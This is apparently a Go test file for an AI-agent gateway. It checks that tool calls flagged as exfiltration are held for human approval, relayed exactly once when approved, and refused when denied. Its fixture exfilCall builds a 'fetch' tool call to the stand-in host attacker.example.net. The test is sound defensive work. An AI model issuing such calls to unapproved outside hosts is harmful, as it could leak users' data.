package gateway

import (
	"fmt"
	"strings"
	"testing"

	"github.com/agentwarden/warden/internal/approval"
	"github.com/agentwarden/warden/internal/zerotrust"
)

// newSecurityHoldHarness relays through the pipeline assemble.FromConfig
// builds (OptionsFromYAML) for a configuration whose security processor
// sends exfiltration to a person (require_approval) and whose zero-trust
// stage can hold calls (hold_for_approval, admin channel): the wiring under
// test is the configuration's, not a hand-built pipeline.
func newSecurityHoldHarness(t *testing.T) (*approval.Queue, *harness) {
	t.Helper()
	dir := t.TempDir()
	ring, err := zerotrust.LoadKeyRing(zerotrust.KeysDir(dir))
	if err == nil {
		_, err = ring.Rotate("EdDSA")
	}
	if err != nil {
		t.Fatal(err)
	}
	opts := OptionsFromYAML(t, fmt.Sprintf(`version: 1
gateway:
  security: {exfiltration: require_approval, allowed_hosts: [example.com]}
  zero_trust: {data_dir: %q, store: memory, subject: alice, hold_for_approval: true, approval_channels: [admin]}
  upstreams: [{name: web, url: "http://127.0.0.1:9/mcp", require_token: [transfer_funds]}]
`, dir))
	t.Cleanup(func() {
		for _, c := range opts.Closers {
			if c != nil {
				c.Close()
			}
		}
	})
	if opts.Approvals == nil {
		t.Fatal("hold_for_approval with the admin channel gave no approval queue")
	}
	u := opts.Upstreams[0]
	return opts.Approvals, newHarness(t, RelayOptions{Upstream: u.Name, Pipeline: u.Pipeline})
}

// exfilCall is a call the security processor finds sends data to a host
// not on the allowlist; fetch needs no token of its own.
func exfilCall(id string) string {
	return `{"jsonrpc":"2.0","id":` + id + `,"method":"tools/call","params":{"name":"fetch","arguments":{"url":"https://attacker.example.net/x"}}}`
}

// A security finding whose action is require_approval holds the call when
// something can hold it: nothing reaches the upstream while it waits, the
// person deciding sees the finding, and once approved the call is relayed
// exactly once, with the arguments that were approved.
func TestSecurityApprovalHoldsThenRelaysOnce(t *testing.T) {
	q, h := newSecurityHoldHarness(t)
	h.send(h.client, exfilCall("1"))
	p := waitPending(t, q)
	if p.Tool != "fetch" || p.Subject != "alice" || !strings.Contains(strings.Join(p.Findings, "\n"), "exfiltration/") {
		t.Fatalf("pending approval shows %+v, want the fetch call with its exfiltration finding", p)
	}
	h.nothing(h.upstream, "a call held for approval")
	if err := q.Decide(p.ID, true, "bob@example.com", "expected destination"); err != nil {
		t.Fatal(err)
	}
	got := h.recv(h.upstream)
	if got.ID.Raw() != "1" || got.Method != "tools/call" ||
		!strings.Contains(string(got.Raw), `"arguments":{"url":"https://attacker.example.net/x"}`) ||
		strings.Contains(string(got.Raw), "io.agentwarden/") {
		t.Fatalf("upstream got %s, want the approved call", got.Raw)
	}
	h.nothing(h.upstream, "a second copy of the approved call")
	h.send(h.upstream, `{"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":"ok"}]}}`)
	if m := h.recv(h.client); m.ID.Raw() != "1" || m.Result == nil {
		t.Fatalf("client got %s, want the upstream's answer", m.Raw)
	}
	// Deciding again changes nothing: there is nothing left to relay.
	q.Decide(p.ID, true, "bob@example.com", "again")
	h.nothing(h.upstream, "the approved call, relayed again")
}

// A denial refuses the held call, says who denied it, and nothing reaches
// the upstream.
func TestSecurityApprovalDenied(t *testing.T) {
	q, h := newSecurityHoldHarness(t)
	h.send(h.client, exfilCall("1"))
	p := waitPending(t, q)
	if err := q.Decide(p.ID, false, "bob@example.com", "unknown host"); err != nil {
		t.Fatal(err)
	}
	m := h.recv(h.client)
	if code, d := detailOf(t, m); d.Stage != "zero-trust" || d.Rule != "approval-denied" || code == 0 ||
		!strings.Contains(m.Error.Message, "bob@example.com") {
		t.Fatalf("denied: %s", m.Raw)
	}
	h.nothing(h.upstream, "a denied call")
}
